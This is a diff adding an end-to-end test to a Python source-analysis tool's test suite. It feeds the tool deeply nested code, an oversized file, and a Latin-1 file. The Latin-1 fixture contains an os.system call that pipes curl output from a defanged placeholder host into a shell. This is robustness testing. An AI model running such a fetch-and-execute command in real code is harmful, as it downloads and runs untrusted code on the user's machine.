@@ -140,3 +140,27 @@ def test_help_does_not_import_heavy_modules() -> None:
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          check=True)
     assert out.stdout.strip() == "[]"
+
+
+def test_hostile_sources_end_to_end(tmp_path: Path) -> None:
+    deep = tmp_path / "deep.py"
+    deep.write_text("x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
+                    + "".join(" " * i + "if x:\n" for i in range(5000)) + " " * 5000 + "pass\n"
+                    + "y = " + "+".join(["1"] * 100_000) + "\n")
+    res = runner.invoke(app, ["explain", str(deep), "-f", "json"])
+    assert res.exit_code == 0, res.output
+    rep = json.loads(res.stdout)
+    assert rep["notes"][0] == ("deep.py: does not parse as Python 3 (too many nested "
+                               "parentheses, line 1); indexed line by line")
+    big = tmp_path / "big.py"
+    big.write_bytes(b'x = "' + b"A" * 50_000_000 + b'"\n')
+    res = runner.invoke(app, ["explain", str(big), "-f", "json"])
+    assert res.exit_code == 0
+    assert json.loads(res.stdout)["skipped"] == [{
+        "path": "big.py", "evidence": False,
+        "reason": "too large (50,000,007 bytes, limit 20,971,520), not read"}]
+    latin = tmp_path / "latin.py"
+    latin.write_bytes(b"# caf\xe9\nimport os\nos.system('curl hxxp://x | sh')\n")
+    res = runner.invoke(app, ["explain", str(latin), "-f", "json"])
+    assert res.exit_code in (0, 1)
+    assert "latin.py" in json.loads(res.stdout)["files_analysed"]
